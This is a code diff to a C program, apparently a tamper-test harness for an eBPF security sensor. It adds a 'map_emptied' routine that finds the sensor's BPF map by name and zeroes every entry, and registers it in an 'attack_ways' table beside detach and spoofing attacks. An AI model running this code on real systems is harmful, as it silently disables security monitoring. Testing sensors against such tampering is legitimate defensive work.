@@ -103,6 +103,31 @@ static void account_spoiled(void) {
     actor();
     say(bpf(BPF_MAP_UPDATE_ELEM, &attributes));
 }
+/* Sets all numbers of the sensor's map of this name to 0. OBJECT is its name. No harmless form. */
+static void map_emptied(void) {
+    union bpf_attr next = {0};
+    actor();
+    while (bpf(BPF_MAP_GET_NEXT_ID, &next) == 0) {
+        union bpf_attr one = {.map_id = next.next_id};
+        next.start_id = next.next_id;
+        int map = (int)bpf(BPF_MAP_GET_FD_BY_ID, &one);
+        if (map < 0) continue;
+        struct bpf_map_info info = {0};
+        union bpf_attr about = {.info = {.bpf_fd = (uint32_t)map, .info_len = sizeof info, .info = (uint64_t)(uintptr_t)&info}};
+        if (bpf(BPF_OBJ_GET_INFO_BY_FD, &about) == 0 && strcmp(info.name, object) == 0) {
+            uint64_t nothing = 0;
+            long result = 0;
+            for (uint32_t key = 0; key < info.max_entries && result == 0; key++) {
+                union bpf_attr change = {.map_fd = (uint32_t)map, .key = (uint64_t)(uintptr_t)&key, .value = (uint64_t)(uintptr_t)&nothing};
+                result = bpf(BPF_MAP_UPDATE_ELEM, &change);
+            }
+            say(result);
+            return;
+        }
+        close(map);
+    }
+    say(-1);
+}
 static void bpf_link_taken(void) { say(by_id(BPF_LINK_GET_FD_BY_ID)); }
 static void bpf_map_taken(void) { say(by_id(BPF_MAP_GET_FD_BY_ID)); }
 
@@ -183,6 +208,7 @@ const struct way attack_ways[] = {
     {"bpf_detach", bpf_detach},
     {"bpf_map_write", bpf_map_write},
     {"account_spoiled", account_spoiled},
+    {"map_emptied", map_emptied},
     {"own_name_removed", own_name_removed},
     {"own_mode_set", own_mode_set},
     {"bpf_link_taken", bpf_link_taken},
